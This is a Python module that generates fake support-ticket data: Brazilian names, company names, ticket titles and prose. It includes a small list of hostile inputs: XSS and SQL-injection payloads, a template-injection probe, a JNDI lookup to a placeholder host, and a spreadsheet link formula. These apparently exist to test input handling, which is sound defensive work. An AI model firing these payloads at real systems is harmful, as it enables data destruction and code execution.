"""Names and prose. Some of it is hostile on purpose: ticket text is whatever a stranger types."""

from random import Random


def _words(text: str) -> list[str]:
    return text.split()


def _lines(text: str) -> list[str]:
    return [line.strip() for line in text.strip().splitlines()]


_FIRST = _words(
    """
    Ana Beatriz Bruno Camila Carla Carlos Caua Clara Daniel Davi Diego Elisa Enzo Fabio Felipe Fernanda Gabriela
    Gustavo Helena Heitor Igor Isabela Joao Jorge Julia Larissa Laura Leonardo Livia Lucas Luiza Marcelo Mariana
    Mateus Miguel Nathalia Otavio Paula Pedro Rafael Renata Rodrigo Sofia Thiago Valentina Vinicius Yasmin
    """
)
_LAST = _words(
    """
    Almeida Alves Andrade Araujo Barbosa Batista Borges Cardoso Carvalho Castro Correia Costa Cunha Dias Duarte
    Farias Fernandes Ferreira Freitas Gomes Lima Lopes Machado Martins Melo Mendes Moreira Nascimento Nunes
    O'Brien Oliveira Pereira Pinto Ramos Ribeiro Rocha Santana Santos Silva Souza Teixeira Vieira
    """
)
_COMPANY_HEAD = _words(
    """
    Acai Alvorada Araucaria Atlantica Aurora Bandeirante Boreal Cajueiro Capivara Cerrado Cometa Cruzeiro
    Diamante Esmeralda Farol Guarani Harpia Horizonte Ipe Jacaranda Jatoba Litoral Maracuja Marimba Mirante
    Nordeste Onca Pampa Pantanal Paraiso Pinheiro Planalto Quilombo Sabia Safira Serrana Sertao Tamoio Tiete
    Tucano Vale Veleiro
    """
)
_COMPANY_TAIL = _words(
    """
    Alimentos Agro Autopecas Bebidas Cargas Comercio Construtora Contabil Cosmeticos Distribuidora Energia Farma
    Foods Industria Logistica Marketplace Medica Moveis Papel Pet Quimica Seguros Servicos Solar Tecnologia
    Textil Transportes Varejo Viagens
    """
)

_THINGS = _lines(
    """
    invoice NF-e import
    ledger posting
    bank reconciliation
    tax rule for ICMS
    payroll export
    SPED file
    webhook
    single sign-on
    API token
    CSV upload
    dashboard filter
    monthly closing
    purchase order
    user permission
    payment batch
    certificate renewal
    e-mail template
    mobile app
    """
)
_TROUBLES = _lines(
    """
    fails with error 500
    shows the wrong total
    is stuck in processing
    duplicates every row
    stopped after the update
    is missing two branches
    takes more than ten minutes
    rejects a valid document
    asks for a permission we have
    does not match the accounting report
    disappeared since yesterday
    returns an empty file
    """
)
_SENTENCES = _lines(
    """
    Could you have a look, please?
    We need this before the closing on Friday.
    It worked until last week.
    I attached a screenshot of what we see.
    The same happens for my colleague in another branch.
    I cleared the cache and signed in again, no change.
    Our accountant is waiting for the file.
    Thanks for the quick answer!
    That solved it for one company, but not for the other two.
    I checked the logs and found the request that failed.
    The rule was changed on our side, I have put it back.
    Engineering has a fix in review and it will be live tomorrow.
    Can you tell me the document number?
    Please try once more and let me know.
    This is how the field is meant to be used.
    I am closing this for now; just answer here to reopen it.
    Bom dia, tudo bem?
    Obrigado pelo retorno.
    Segue o arquivo em anexo.
    Não conseguimos emitir a nota desde ontem à tarde.
    Isso também acontece no ambiente de homologação.
    Podemos marcar uma chamada amanhã?
    """
)
_HOSTILE = (
    "<script>alert('ticket')</script>",
    "</td></tr></table><img src=x onerror=alert(1)>",
    "'); drop table issues; --",
    '{"has_next_page": true, "data": null}',
    "{{ config.items() }} ${jndi:ldap://nowhere.invalid/a}",
    '=HYPERLINK("http://nowhere.invalid","open")',
    "a,b;c\t\"d\"\n'e'\r\nf\\g",
    "🧾💥 ação não concluída — “erro” №42 ﷽",
    "\u202eright to left\u202c and zero\u200bwidth",
    "∅",
)


def slug(name: str, joiner: str) -> str:
    return joiner.join("".join(c if c.isalnum() else " " for c in name.lower()).split())


def people(rng: Random, count: int) -> list[str]:
    """Full names; two people may share one, as they do."""
    return [f"{rng.choice(_FIRST)} {rng.choice(_LAST)}" for _ in range(count)]


def companies(rng: Random, count: int) -> list[str]:
    """Distinct company names, numbered once the words run out."""
    names = [f"{head} {tail}" for head in _COMPANY_HEAD for tail in _COMPANY_TAIL]
    rng.shuffle(names)
    return [names[i % len(names)] + (f" {i // len(names) + 1}" if i >= len(names) else "") for i in range(count)]


def title(rng: Random) -> str:
    if rng.random() < 0.02:
        return rng.choice(_HOSTILE)
    return f"{rng.choice(_THINGS)} {rng.choice(_TROUBLES)}"


def paragraphs(rng: Random, count: int = 240) -> list[str]:
    """A stock of prose that messages are put together from."""
    stock = [" ".join(rng.choices(_SENTENCES, k=rng.randrange(2, 7))) for _ in range(count - len(_HOSTILE))]
    return [*stock, *_HOSTILE]
